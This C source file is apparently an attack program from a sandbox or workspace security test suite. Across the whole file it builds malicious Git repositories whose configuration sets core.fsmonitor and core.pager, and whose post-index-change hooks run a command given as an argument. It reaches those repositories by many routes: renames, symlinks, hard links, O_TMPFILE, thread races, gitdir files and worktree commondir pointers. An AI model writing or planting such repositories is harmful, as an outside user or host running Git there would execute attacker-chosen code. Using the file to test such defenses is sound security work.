// Makes directories that Git, outside, takes for a repository with a configuration of the attacker's: of the parts of the
// one that is there, one by one, in every order and by every call that makes an entry; by a `.git` that leads there; and
// by what worktrees point to. The configuration executes the command that is the first argument. Whether Git obeys it is
// looked at from outside, so this ends well whatever it could do.
#include "attack.h"
#include <pthread.h>

static const char *command;

static int put(const char *path, const char *text) {
    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0600);
    if (fd < 0) return -1;
    int done = write(fd, text, strlen(text)) == (ssize_t)strlen(text) ? 0 : -1;
    close(fd);
    return done;
}

static int config(const char *path) {
    char text[1024];
    snprintf(text, sizeof text,
             "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"%s; false\"\n"
             "\tpager = \"%s; cat\"\n", command, command);
    return put(path, text);
}

static void hook(const char *directory) {
    char path[512], text[512];
    snprintf(path, sizeof path, "%s/post-index-change", directory);
    snprintf(text, sizeof text, "#!/bin/sh\n%s\n", command);
    mkdir(directory, 0700);
    if (put(path, text) == 0) chmod(path, 0700);
}

static void run(const char *script) {
    if (system(script) == -1) exit(3);
}

static void at(const char *directory) {
    mkdir(directory, 0700);
    if (chdir(directory) != 0) exit(3);
}

static void back(void) {
    if (chdir("..") != 0) exit(3);
}

// All parts but one, and then that one by NAME: a directory, so by mkdir and by rename.
static void directory_last(const char *where, const char *part, int by_rename) {
    at(where);
    put("HEAD", "ref: refs/heads/main\n");
    config("config");
    hook("hooks");
    mkdir(strcmp(part, "refs") ? "refs" : "objects", 0700);
    if (by_rename) {
        mkdir("elsewhere", 0700);
        rename("elsewhere", part);
    } else if (mkdir(part, 0700) != 0) {
        symlink("elsewhere", part);
        mkdir("elsewhere", 0700);
    }
    back();
}

// The configuration last, by every call that makes a name.
static void configuration_last(const char *where, int how) {
    at(where);
    put("HEAD", "ref: refs/heads/main\n");
    mkdir("objects", 0700);
    mkdir("refs", 0700);
    config("cfg");
    switch (how) {
    case 0: config("config"); break;
    case 1: rename("cfg", "config"); break;
    case 2: link("cfg", "config"); break;
    case 3: symlink("cfg", "config"); break;
    case 4: renameat2(AT_FDCWD, "cfg", AT_FDCWD, "config", RENAME_NOREPLACE); break;
    case 5: { // A link that leads there makes it, too.
        symlink("config", "link");
        config("link");
        break;
    }
    case 6: {
        int fd = open(".", O_TMPFILE | O_RDWR, 0600);
        char self[64], text[600];
        snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
        snprintf(text, sizeof text, "[core]\n\tfsmonitor = \"%s; false\"\n", command);
        if (fd >= 0 && write(fd, text, strlen(text)) > 0)
            linkat(AT_FDCWD, self, AT_FDCWD, "config", AT_SYMLINK_FOLLOW);
        break;
    }
    case 7: hook("hooks"); break;
    case 8:
        hook("pegs");
        rename("pegs", "hooks");
        break;
    case 9:
        hook("pegs");
        symlink("pegs", "hooks");
        break;
    }
    back();
}

static void *make(void *name) {
    if (strcmp(name, "config") == 0) config(name);
    else mkdir(name, 0700);
    return NULL;
}

// Each part by a thread of its own.
static void at_one_time(const char *where) {
    static char *parts[] = {"objects", "refs", "config"};
    at(where);
    put("HEAD", "ref: refs/heads/main\n");
    pthread_t threads[3];
    for (int i = 0; i < 3; i++) pthread_create(&threads[i], NULL, make, parts[i]);
    for (int i = 0; i < 3; i++) pthread_join(threads[i], NULL);
    back();
}

static void leads(const char *where, const char *to) {
    char text[512];
    at(where);
    snprintf(text, sizeof text, "gitdir: ../%s\n", to);
    put(".git", text);
    back();
}

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    command = argv[1];
    // A repository inside the repository, as Git makes one.
    char script[1024];
    snprintf(script, sizeof script, "git init -q inner; git -C inner config core.fsmonitor '%s; false'", command);
    run(script);
    run("git clone -q . cloned");
    snprintf(script, sizeof script, "git -C cloned config core.fsmonitor '%s; false'", command);
    run(script);
    // The same by hand, in another case, and moved to its name.
    run("mkdir -p hand/.git && cp -r .git/objects .git/refs .git/HEAD hand/.git");
    config("hand/.git/config");
    run("mkdir -p case/.GIT && cp -r .git/objects .git/refs .git/HEAD case/.GIT");
    config("case/.GIT/config");
    run("mkdir -p moved/git && cp -r .git/objects .git/refs .git/HEAD moved/git");
    config("moved/git/config");
    rename("moved/git", "moved/.git");
    run("mkdir -p led; ln -s ../configured led/.git");
    // Without a name.
    directory_last("refs-last", "refs", 0);
    directory_last("objects-last", "objects", 0);
    directory_last("refs-moved", "refs", 1);
    directory_last("objects-moved", "objects", 1);
    char name[64], file[64];
    for (int how = 0; how < 10; how++) {
        snprintf(name, sizeof name, "bare%d", how);
        snprintf(file, sizeof file, "file%d", how);
        configuration_last(name, how);
        leads(file, name);
    }
    for (int i = 0; i < 20; i++) {
        snprintf(name, sizeof name, "race%d", i);
        at_one_time(name);
    }
    // A worktree that is there is led to what was made here.
    put(".git/worktrees/tree/commondir", "../../../configured\n");
    put(".git/worktrees/tree/config.worktree", "[core]\n\tfsmonitor = false\n");
    run("rm -f .git/worktrees/tree/commondir tree/.git");
    put(".git/worktrees/tree/commondir", "../../../bare0\n");
    put("tree/.git", "gitdir: ../bare0\n");
    rename("cfg", ".git/worktrees/tree/commondir");
    // One that was there before Dewar, without a name.
    config("there/config");
    run("mv there/refs there/away");
    config("there/config");
    run("mv there/away there/refs");
    // The workspace itself, at last: it loses its own repository.
    run("cp -r .git/objects .git/refs .git/index . ; cp .git/HEAD HEAD.new; mv HEAD.new HEAD");
    config("config");
    hook("hooks");
    unlink(".git/HEAD");
    return 0;
}
